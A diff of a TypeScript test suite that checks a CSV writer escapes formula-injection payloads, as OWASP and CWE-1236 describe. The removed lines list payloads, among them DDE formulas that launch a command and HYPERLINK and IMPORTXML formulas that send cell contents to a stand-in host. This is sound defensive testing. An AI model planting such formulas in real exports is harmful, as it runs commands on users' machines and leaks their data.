@@ -1,6 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { unguardCell, writeCsv } from '#kernel';
+import { formulasIn, payloads } from './csv-injection.js';
 
 /** RFC 4180; the other side is csv-parse, a general-purpose reader. */
 describe('CSV by RFC 4180', () => {
@@ -19,46 +20,39 @@ describe('CSV by RFC 4180', () => {
   /** As read by a general-purpose reader, before anything is taken off. */
   const readBy = (written: string): string => (parse(written, { record_delimiter: '\r\n' }) as [[string]])[0][0];
 
-  /**
-   * OWASP ASVS 5.0, requirement 1.2.10 (what a field may not begin with: = + - @ tab, null) and CWE-1236; line ends and full-width forms as the OWASP page "CSV
-   * Injection" has them, its payloads FROM MEMORY.
-   */
-  it.each([
-    '=1+1',
-    '=1+2";=1+2',
-    `=1+2'" ;,=1+2`,
-    "=cmd|' /C calc'!A0",
-    "+cmd|' /C calc'!A0",
-    "-cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!D2",
-    '=HYPERLINK("http://example.invalid?leak="&A1&A2,"Error: press for further information")',
-    '=IMPORTXML(CONCAT("http://example.invalid/?v=",CONCATENATE(A2:E2)),"//a/a10")',
-    '=DDE("cmd";"/C calc";"x")',
-    '\t=1+1',
-    '\r=1+1',
-    '\n=1+1',
-    '\u0000=1+1',
-    '\uff1d1+1',
-    '\uff0b1+1',
-    '\uff0d1+1',
-    '\uff20SUM(1+1)',
-    '-1-1',
-    '+44 20 7946 0000',
-  ])('a formula is text: %j', (payload) => {
-    const read = readBy(writeCsv([[payload, 'x']]));
-    expect(read).toBe(`'${payload}`);
-    expect(unguardCell(read)).toBe(payload);
+  it.each(payloads)('a published payload is text, whoever reads it, and comes back: $text ($source)', ({ text }) => {
+    // Written as it is, or between quotes that are not doubled, it is one to somebody; the first of the second list does nothing by itself.
+    if (!text.startsWith('DDE')) expect([...formulasIn(`x,${text},3\r\n`), ...formulasIn(`x,"${text}",3\r\n`)]).not.toEqual([]);
+    for (const row of [
+      [text, 'x', 'y'],
+      ['x', text, 'y'],
+      ['x', 'y', text],
+    ]) {
+      const written = writeCsv([['name', 'note', 'mass'], row]);
+      expect(formulasIn(written)).toEqual([]);
+      const read: string[][] = parse(written, { record_delimiter: '\r\n' });
+      // The list of OWASP as it stands.
+      for (const cell of read.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
+      expect(read[1]?.map(unguardCell)).toEqual(row);
+    }
   });
 
   it.each([-3, '-3', '-0.5', '+2', '1e-3', '-1.5e+6', 0, '62'])('a number stays a number: %j', (value) =>
     expect(readBy(writeCsv([[value, 'x']]))).toBe(String(value)),
   );
 
-  it('what is guarded comes back, quotes of its own too', () => {
-    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", '\t', '\r', '1', 'e', '.', 'a'), maxLength: 6 });
-    fc.assert(fc.property(text, (given) => expect(unguardCell(readBy(writeCsv([[given, 'x']])))).toBe(given)));
+  it('whatever is typed is no formula in any reader, and comes back as it was', () => {
+    const text = fc.string({
+      unit: fc.constantFrom('=', '+', '-', '@', "'", '"', ';', ' ', '\t', '\r', '\n', '1', 'e', '.', 'a'),
+      maxLength: 8,
+    });
+    const check = (given: string) => {
+      const written = writeCsv([['x', given, 'y']]);
+      const read: string[][] = parse(written, { record_delimiter: '\r\n' });
+      expect(unguardCell(read[0]?.[1] ?? '')).toBe(given);
+      expect(formulasIn(written)).toEqual([]);
+    };
+    fc.assert(fc.property(text, check), { numRuns: 2000 });
   });
 
   it('comes back as it was, whatever the fields hold', () => {
